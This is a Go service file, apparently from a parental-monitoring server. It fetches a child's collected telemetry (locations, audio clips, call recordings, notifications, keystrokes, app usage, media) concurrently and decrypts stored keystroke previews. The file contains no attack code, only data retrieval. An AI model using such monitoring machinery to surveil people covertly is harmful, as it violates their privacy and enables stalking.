package service

import (
	"context"
	"fmt"
	"sync"
	"time"

	"github.com/rs/zerolog/log"

	"github.com/guardianview/monitor-server-go/internal/config"
	apperrors "github.com/guardianview/monitor-server-go/internal/errors"
	"github.com/guardianview/monitor-server-go/internal/model"
	"github.com/guardianview/monitor-server-go/internal/repository"
	"github.com/guardianview/monitor-server-go/internal/util"
)

type TelemetryService struct {
	deviceRepo    repository.DeviceRepository
	telemetryRepo repository.TelemetryRepository
	encryptionKey string
	fetchLimit    int
}

func NewTelemetryService(
	deviceRepo repository.DeviceRepository,
	telemetryRepo repository.TelemetryRepository,
	encryptionKey string,
) *TelemetryService {
	return &TelemetryService{
		deviceRepo:    deviceRepo,
		telemetryRepo: telemetryRepo,
		encryptionKey: encryptionKey,
		fetchLimit:    config.TelemetryFetchLimit,
	}
}

// DeviceForChild resolves the child's current device.
func (s *TelemetryService) DeviceForChild(ctx context.Context, childID string) (*model.Device, error) {
	device, err := s.deviceRepo.FindByChildID(ctx, childID)
	if err != nil {
		return nil, apperrors.Database(fmt.Errorf("find device: %w", err))
	}
	if device == nil {
		return nil, apperrors.NoDeviceForChild(childID)
	}
	return device, nil
}

// FetchChildData loads the latest records of every category since the lower
// bound. The device lookup is an all-or-nothing gate: no device means no
// reads at all. The eight category reads then run concurrently; a category
// whose read fails degrades to an empty slice and is named in
// bundle.Degraded rather than failing the fetch.
func (s *TelemetryService) FetchChildData(ctx context.Context, childID string, since time.Time) (*model.ChildBundle, error) {
	device, err := s.DeviceForChild(ctx, childID)
	if err != nil {
		return nil, err
	}
	deviceID := device.ID

	bundle := &model.ChildBundle{}

	var (
		wg sync.WaitGroup
		mu sync.Mutex
	)
	degrade := func(category model.Category, err error) {
		log.Error().Err(err).
			Str("childId", childID).
			Str("category", string(category)).
			Msg("telemetry category read failed")
		mu.Lock()
		bundle.Degraded = append(bundle.Degraded, category)
		mu.Unlock()
	}

	run := func(fn func() error, category model.Category) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := fn(); err != nil {
				degrade(category, err)
			}
		}()
	}

	run(func() (err error) {
		bundle.Locations, err = s.telemetryRepo.Locations(ctx, deviceID, since, s.fetchLimit)
		return
	}, model.CategoryLocation)
	run(func() (err error) {
		bundle.AudioClips, err = s.telemetryRepo.AudioClips(ctx, deviceID, since, s.fetchLimit)
		return
	}, model.CategoryAudioClip)
	run(func() (err error) {
		bundle.CallRecordings, err = s.telemetryRepo.CallRecordings(ctx, deviceID, since, s.fetchLimit)
		return
	}, model.CategoryCallRecording)
	run(func() (err error) {
		bundle.Notifications, err = s.telemetryRepo.Notifications(ctx, deviceID, since, s.fetchLimit)
		return
	}, model.CategoryNotification)
	run(func() (err error) {
		// keyed by child id, not device id
		bundle.KeystrokeData, err = s.telemetryRepo.KeystrokeEvents(ctx, childID, since, s.fetchLimit)
		return
	}, model.CategoryKeystroke)
	run(func() (err error) {
		// keyed by child id, not device id
		bundle.SystemActivity, err = s.telemetryRepo.SystemActivity(ctx, childID, since, s.fetchLimit)
		return
	}, model.CategorySystemActivity)
	run(func() (err error) {
		bundle.AppUsage, err = s.telemetryRepo.AppUsage(ctx, deviceID, since, s.fetchLimit)
		return
	}, model.CategoryAppUsage)
	run(func() (err error) {
		bundle.MediaItems, err = s.telemetryRepo.MediaItems(ctx, deviceID, since, s.fetchLimit)
		return
	}, model.CategoryMediaItem)

	wg.Wait()

	s.decryptKeystrokePreviews(bundle.KeystrokeData)

	return bundle, nil
}

// Keystroke previews are stored encrypted when a key is configured; rows
// written before the key was set pass through untouched.
func (s *TelemetryService) decryptKeystrokePreviews(events []model.KeystrokeEvent) {
	if s.encryptionKey == "" {
		return
	}
	for i := range events {
		if events[i].ContentPreview == nil {
			continue
		}
		plain, err := util.Decrypt(s.encryptionKey, *events[i].ContentPreview)
		if err != nil {
			continue
		}
		events[i].ContentPreview = &plain
	}
}
